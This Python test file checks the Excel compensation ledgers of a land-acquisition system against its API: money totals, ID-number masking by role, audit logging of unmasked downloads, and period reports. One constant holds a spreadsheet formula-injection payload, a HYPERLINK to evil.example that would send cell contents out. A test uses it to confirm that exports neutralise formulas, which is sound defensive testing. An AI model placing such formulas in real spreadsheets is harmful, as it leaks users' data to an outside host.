"""The 补偿安置台账 workbook and the money in the monthly and quarterly workbooks: made
through the API (a standard, households, agreements, payments), read back with openpyxl,
and checked against the API's own figures."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from decimal import ROUND_HALF_UP, Decimal
from urllib.parse import unquote

import pytest
from conftest import client_for
from openpyxl import load_workbook
from sqlalchemy import text

from landmap import create_app
from landmap.domain import HouseholdStatus, today
from landmap.services.personal import check_character

YEAR = today().year
ZH = {"Accept-Language": "zh-CN"}
LEAK = '=HYPERLINK("http://evil.example/leak?"&B2,"Open")'
MONEY_KEYS = ("computed_yuan", "agreed_yuan", "paid_yuan", "outstanding_yuan")
MONEY_HEADS = ("测算补偿（元）", "协议金额（元）", "已兑付（元）", "未兑付（元）")
STANDARD = {
    "year": YEAR,
    "effective_from": f"{YEAR}-01-01",
    "items": [
        {"kind": "land", "class": "cultivated", "rate_yuan": 48000},
        {"kind": "land", "class": "garden", "rate_yuan": 36000},
        {"kind": "land", "class": "forest", "rate_yuan": 21000},
        {"kind": "land", "class": "construction", "rate_yuan": 30000},
        {"kind": "crops", "class": "cultivated", "rate_yuan": 1800},
        {"kind": "social_security", "rate_yuan": 22000},
        {"kind": "house", "class": "砖混", "rate_yuan": 850.5},
        {"kind": "house", "class": "frame", "rate_yuan": 1050},
        {"kind": "attachment", "class": "果树", "rate_yuan": 80},
        {"kind": "relocation", "rate_yuan": 3000},
        {"kind": "transition", "rate_yuan": 450, "months": 12},
    ],
}


def id_number(serial: int) -> str:
    base = f"430802198001{serial % 28 + 1:02d}{serial % 1000:03d}"
    return base + check_character(base)


def yuan(v) -> Decimal:
    return Decimal(str(v or 0)).quantize(Decimal("0.01"), ROUND_HALF_UP)


def masked(number: str) -> str:
    return number[:6] + "********" + number[-4:]


@pytest.fixture
def batch_parcels(db):
    """Three parcels of one batch, not started, with no households: (codes, project, batch)."""
    rows = db.execute(
        text("""
        SELECT p.code, p.project_id, p.batch_id FROM parcel p
        WHERE p.batch_id = (SELECT batch_id FROM parcel q WHERE q.batch_id IS NOT NULL
                              AND q.stage = 'not_started' AND q.retired_on IS NULL
                            GROUP BY batch_id HAVING count(*) >= 3 ORDER BY batch_id LIMIT 1)
          AND p.stage = 'not_started' AND p.retired_on IS NULL
          AND NOT EXISTS (SELECT 1 FROM household_parcel h WHERE h.parcel_id = p.id)
        ORDER BY p.code LIMIT 3""")
    ).all()
    assert len(rows) == 3
    return [r.code for r in rows], rows[0].project_id, rows[0].batch_id


@pytest.fixture
def households(client, batch_parcels):
    """A standard; four households: one paid in full (two payments), one part paid, one
    signed, one (named like a formula, on two parcels) not signed."""
    r = client.post("/api/compensation/standards", json=STANDARD)
    assert r.status_code == 201, r.get_json()
    codes, project, batch = batch_parcels
    day = today().isoformat()
    bodies = [
        ("张三", codes[0], {"houses": [{"structure": "brick_concrete", "area_m2": 120}]}),
        ("李四", codes[1], {"houses": [{"structure": "frame", "area_m2": 88.5},
                                      {"structure": "brick_concrete", "area_m2": 20,
                                       "legal": False}],
                           "attachments": [{"item": "果树", "quantity": 13}],
                           "resettlement": "flat", "flat_area_m2": 90}),
        ("王五", codes[1], {"members": 3}),
        (LEAK, codes[2], {"parcels": [codes[0]], "houses": []}),
    ]  # fmt: skip
    ids = []
    for serial, (head, code, extra) in enumerate(bodies, start=101):
        body = {"head": head, "id_number": id_number(serial), "phone": "13907441234",
                "members": 4, "houses": [], "resettlement": "money", **extra}  # fmt: skip
        r = client.post(f"/api/parcels/{code}/households", json=body)
        assert r.status_code == 201, r.get_json()
        ids.append(r.get_json()["id"])
    for n, hid in enumerate(ids[:3]):
        total = client.get(f"/api/households/{hid}/compensation").get_json()["total_yuan"]
        r = client.post(f"/api/households/{hid}/agreement",
                        json={"number": f"BC-{n}", "date": day, "amount_yuan": total})  # fmt: skip
        assert r.status_code == 201, r.get_json()
        if n < 2:
            half = float(yuan(Decimal(str(total)) / 3))
            pay = {"date": day, "amount_yuan": half, "voucher": f"PZ-{n}a"}
            r = client.post(f"/api/households/{hid}/payments", json=pay)
            assert r.status_code == 201, r.get_json()
        if n == 0:
            rest = float(yuan(Decimal(str(total)) - Decimal(str(half))))
            pay = {"date": day, "amount_yuan": rest, "voucher": "PZ-0b"}
            r = client.post(f"/api/households/{hid}/payments", json=pay)
            assert r.status_code == 201, r.get_json()
    return {"ids": ids, "project": project, "batch": batch, "codes": codes}


def download(c, url, **query):
    resp = c.get(url, query_string=query)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    return resp, load_workbook(io.BytesIO(resp.data))


def table(ws):
    """The sheet's rows as dicts by header (the totals row included)."""
    rows = list(ws.iter_rows())
    head = [c.value for c in rows[0]]
    return [dict(zip(head, row, strict=False)) for row in rows[1:]]


def test_the_ledger_equals_the_api(client, households):
    project, batch, ids = households["project"], households["batch"], households["ids"]
    resp, wb = download(client, f"/projects/{project}/compensation.xlsx", batch=batch)
    assert wb.sheetnames == ["说明", "汇总", "补偿安置台账", "补偿明细"]
    disposition = resp.headers["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition
    assert "补偿安置台账" in unquote(disposition.split("filename*=UTF-8''")[1])
    summary = client.get(f"/api/projects/{project}/compensation?batch={batch}").get_json()
    listed = client.get(
        f"/api/projects/{project}/compensation/households?batch={batch}"
    ).get_json()["households"]
    by_id = {h["id"]: h for h in listed}
    assert set(ids) <= set(by_id)

    rows = table(wb["补偿安置台账"])
    *body, totals = rows
    assert totals["户号"].value == "合计" and totals["户号"].font.b
    assert [r["户号"].value for r in body] == [h["id"] for h in listed]
    for head, key in zip(MONEY_HEADS, MONEY_KEYS, strict=True):
        # the totals row is the API's figure, and the sum of the rows above it
        assert totals[head].value == summary[key], head
        assert yuan(totals[head].value) == sum((yuan(r[head].value) for r in body), Decimal(0))
        assert totals[head].number_format == "#,##0.00"
        for r in body:
            assert r[head].value == by_id[r["户号"].value][key], (head, r["户号"].value)
            if r[head].value is not None:
                assert r[head].number_format == "#,##0.00"
    for r in body:
        h = by_id[r["户号"].value]
        assert r["状态"].value == HouseholdStatus(h["status"]).label_zh
        assert r["身份证号"].value == h["id_number"]  # masked, as the API shows it
    mine = {r["户号"].value: r for r in body if r["户号"].value in ids}
    assert [mine[i]["状态"].value for i in ids] == ["已兑付", "部分兑付", "已签约", "未签约"]
    assert mine[ids[0]]["身份证号"].value == masked(id_number(101))
    assert mine[ids[0]]["房屋（结构、面积）"].value == "砖混 120.00 m²"
    assert mine[ids[1]]["房屋（结构、面积）"].value == "框架 88.50 m²；砖混 20.00 m²（无证）"
    assert mine[ids[1]]["房屋面积（m²）"].value == 108.5
    assert mine[ids[1]]["安置方式"].value == "产权调换"
    assert mine[ids[1]]["安置房面积（m²）"].value == 90
    assert mine[ids[0]]["协议编号"].value == "BC-0"
    assert mine[ids[0]]["协议日期"].value.date() == today()
    assert mine[ids[0]]["最近兑付日期"].value.date() == today()
    assert mine[ids[2]]["最近兑付日期"].value is None
    assert mine[ids[3]]["宗地"].value == "、".join(sorted(households["codes"][::2]))
    assert totals["户主"].value == f"{summary['households']['total']} 户"
    every = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(id_number(s) in str(v) for s in range(101, 105) for v in every)

    # the items: each household's amounts sum to its computed compensation
    items = table(wb["补偿明细"])
    *item_rows, item_totals = items
    sums: dict[int, Decimal] = {}
    for r in item_rows:
        sums.setdefault(r["户号"].value, Decimal(0))
        sums[r["户号"].value] += yuan(r["金额（元）"].value)
        if r["金额（元）"].value is not None:
            exact = yuan(Decimal(str(r["数量"].value)) * Decimal(str(r["单价（元）"].value)))
            assert yuan(r["金额（元）"].value) == exact
    for r in body:
        assert sums.get(r["户号"].value, Decimal(0)) == yuan(r["测算补偿（元）"].value)
    assert item_totals["金额（元）"].value == summary["computed_yuan"]
    kinds = {(r["户号"].value, r["补偿项目"].value, r["类别"].value): r for r in item_rows}
    house = kinds[(ids[0], "房屋补偿", "砖混")]
    assert house["数量"].value == 120 and house["单价（元）"].value == 850.5
    assert house["金额（元）"].value == 102060 and house["单位"].value == "元/m²"
    assert kinds[(ids[1], "附着物补偿", "果树")]["数量"].value == 13
    unregistered = [r for r in item_rows if r["户号"].value == ids[1] and r["类别"].value == "砖混"]
    assert unregistered[0]["金额（元）"].value == 0 and "无证" in unregistered[0]["说明"].value

    # the 汇总 sheet: the API's figures, and in 万元 beside them
    money = {r["项目"].value: r for r in table(wb["汇总"])}
    assert money["测算补偿"]["金额（元）"].value == summary["computed_yuan"]
    assert money["未兑付"]["金额（万元）"].value == pytest.approx(summary["outstanding_yuan"] / 1e4)
    about = {r[0]: r[1] for r in wb["说明"].iter_rows(values_only=True)}
    assert about["户数"] == summary["households"]["total"]
    assert about["身份证号"] == "已脱敏"


def test_the_whole_project_and_a_past_day_equal_the_api(client, households):
    project = households["project"]
    yesterday = (today() - dt.timedelta(days=1)).isoformat()
    for query in ({}, {"as_of": yesterday}, {"batch": households["batch"], "as_of": yesterday}):
        _resp, wb = download(client, f"/projects/{project}/compensation.xlsx", **query)
        summary = client.get(f"/api/projects/{project}/compensation", query_string=query)
        summary = summary.get_json()
        *body, totals = table(wb["补偿安置台账"])
        assert len(body) == summary["households"]["total"]
        for head, key in zip(MONEY_HEADS, MONEY_KEYS, strict=True):
            assert totals[head].value == summary[key], (query, head)
        if "as_of" in query:  # none of the test's households had signed or been paid by then
            mine = [r for r in body if r["户号"].value in households["ids"]]
            assert len(mine) == 4
            assert {r["状态"].value for r in mine} == {"未签约"}
            assert {r["已兑付（元）"].value for r in mine} == {0}
            assert {r["协议编号"].value for r in mine} == {None}
            assert summary["as_of"] in wb.properties.title


def test_a_head_named_like_a_formula_is_text(client, households):
    _resp, wb = download(client, f"/projects/{households['project']}/compensation.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    found = [c for c in cells if c.value == LEAK]
    assert {c.parent.title for c in found} == {"补偿安置台账", "补偿明细"}
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_personal_numbers_only_for_the_roles_that_handle_agreements(app, accounts, db, households):
    project, ids = households["project"], households["ids"]
    url = f"/projects/{project}/compensation.xlsx"
    viewer = client_for(app, accounts["viewer"]["token"])
    refused = viewer.get(url, query_string={"personal": "1"}, headers=ZH)
    assert refused.status_code == 403
    assert refused.get_json()["code"] == "personal_not_allowed"
    assert "身份证号" in refused.get_json()["error"]
    assert viewer.get(url, query_string={"personal": "maybe"}).status_code == 400
    _resp, wb = download(viewer, url)  # masked: allowed
    heads = {r["户号"].value: r["身份证号"].value for r in table(wb["补偿安置台账"])}
    assert heads[ids[0]] == masked(id_number(101))

    officer = client_for(app, accounts["officer"]["token"])
    _resp, wb = download(officer, url, personal="1")
    *body, _totals = table(wb["补偿安置台账"])
    shown = {r["户号"].value: r["身份证号"].value for r in body}
    assert [shown[i] for i in ids] == [id_number(s) for s in range(101, 105)]
    about = {r[0]: r[1] for r in wb["说明"].iter_rows(values_only=True)}
    assert about["身份证号"].startswith("完整显示")


def test_every_household_of_an_unmasked_ledger_is_in_the_audit_trail(
    live_settings, live_accounts, live_engine
):
    """Committed for real (the live schema; in a test's transaction the request's own
    rollback would take the audit rows with it): the officer's personal=1 download leaves a
    row naming them for every household listed; a masked download leaves none."""
    app = create_app(live_settings)
    with live_engine.connect() as conn:
        project = conn.execute(
            text("""SELECT p.project_id FROM household_parcel hp JOIN parcel p
                    ON p.id = hp.parcel_id WHERE p.retired_on IS NULL
                    GROUP BY 1 ORDER BY count(*) DESC LIMIT 1""")
        ).scalar()
    if project is None:  # a demo without households: one on a parcel of no batch
        with live_engine.connect() as conn:
            code, project = conn.execute(
                text("""SELECT code, project_id FROM parcel p WHERE batch_id IS NULL
                        AND project_id IS NOT NULL AND retired_on IS NULL
                        AND NOT EXISTS (SELECT 1 FROM household_parcel h
                                        WHERE h.parcel_id = p.id)
                        ORDER BY code LIMIT 1""")
            ).one()
        admin = client_for(app, live_accounts["admin"]["token"])
        body = {"head": "赵六", "id_number": id_number(951), "members": 2, "houses": [],
                "resettlement": "money"}  # fmt: skip
        assert admin.post(f"/api/parcels/{code}/households", json=body).status_code == 201
    url = f"/projects/{project}/compensation.xlsx"

    def views(since: int) -> list[tuple[str, str]]:
        with live_engine.connect() as conn:
            return conn.execute(
                text("""SELECT actor, key FROM audit_log WHERE entity = 'household'
                        AND action = 'view_personal' AND id > :since"""),
                {"since": since},
            ).all()

    with live_engine.connect() as conn:
        since = conn.execute(text("SELECT coalesce(max(id), 0) FROM audit_log")).scalar()
    download(client_for(app, live_accounts["viewer"]["token"]), url)
    download(client_for(app, live_accounts["officer"]["token"]), url)
    assert views(since) == []  # masked: nothing to record
    _resp, wb = download(client_for(app, live_accounts["officer"]["token"]), url, personal="1")
    *body, _totals = table(wb["补偿安置台账"])
    listed = sorted(str(r["户号"].value) for r in body)
    assert listed
    officer = live_accounts["officer"]["name"]
    assert sorted(views(since)) == [(officer, key) for key in listed]


@pytest.mark.parametrize(("path", "param"), [("monthly", "month"), ("quarterly", "quarter")])
def test_the_period_workbooks_have_the_money_as_of_their_end(client, households, path, param):
    project, batch = households["project"], households["batch"]
    now = today()
    this = f"{now:%Y-%m}" if param == "month" else f"{now.year}-Q{(now.month + 2) // 3}"
    first = (
        now.replace(day=1)
        if param == "month"
        else dt.date(now.year, (now.month - 1) // 3 * 3 + 1, 1)
    )
    before = first - dt.timedelta(days=1)
    earlier = f"{before:%Y-%m}" if param == "month" else f"{before.year}-Q{(before.month + 2) // 3}"
    for period, as_of in ((this, now), (earlier, before)):
        _resp, wb = download(client, f"/reports/{path}.xlsx", **{param: period})
        assert wb.sheetnames[-1] == "补偿安置"
        rows = {(r["项目"].value, r["批次"].value): r for r in table(wb["补偿安置"])}
        name = client.get(f"/api/projects/{project}").get_json()["name"]
        batches = {
            b["id"]: b["name"] for b in client.get(f"/api/projects/{project}").get_json()["batches"]
        }
        for scope, label in ((None, "全部批次"), (batch, batches[batch])):
            query = {"as_of": as_of.isoformat(), **({"batch": scope} if scope else {})}
            summary = client.get(f"/api/projects/{project}/compensation", query_string=query)
            summary = summary.get_json()
            row = rows[(name, label)]
            for head, key in zip(MONEY_HEADS, MONEY_KEYS, strict=True):
                assert row[head].value == summary[key], (period, label, head)
            assert row["户数"].value == summary["households"]["total"]
            for s in HouseholdStatus:
                assert row[f"{s.label_zh}（户）"].value == summary["households"][s.value]
        if as_of == now:
            assert rows[(name, batches[batch])]["已兑付（户）"].value >= 1
        else:
            assert rows[(name, batches[batch])]["协议金额（元）"].value == 0


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_ledger(client, households, tmp_path):
    resp, _wb = download(client, f"/projects/{households['project']}/compensation.xlsx")
    book = tmp_path / "ledger.xlsx"
    book.write_bytes(resp.data)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(book)],
        check=True,
        timeout=120,
        capture_output=True,
    )
    assert (tmp_path / "ledger.csv").exists()


def test_a_bad_scope_is_refused(client, households):
    project = households["project"]
    url = f"/projects/{project}/compensation.xlsx"
    other = client.get(url, query_string={"batch": "2147483647"}, headers=ZH)
    assert other.status_code == 404 and other.get_json()["code"]
    assert client.get("/projects/2147483647/compensation.xlsx").status_code == 404
    assert client.get(url, query_string={"batch": "x"}).status_code == 400


@pytest.mark.parametrize("as_of", ["0001-01-01", "9999-12-31", "2011-02-30"])
def test_a_bad_day_is_refused(client, db, as_of):
    project = db.execute(text("SELECT min(id) FROM project")).scalar()
    url = f"/projects/{project}/compensation.xlsx"
    resp = client.get(url, query_string={"as_of": as_of}, headers=ZH)
    assert resp.status_code == 400 and resp.get_json()["code"]
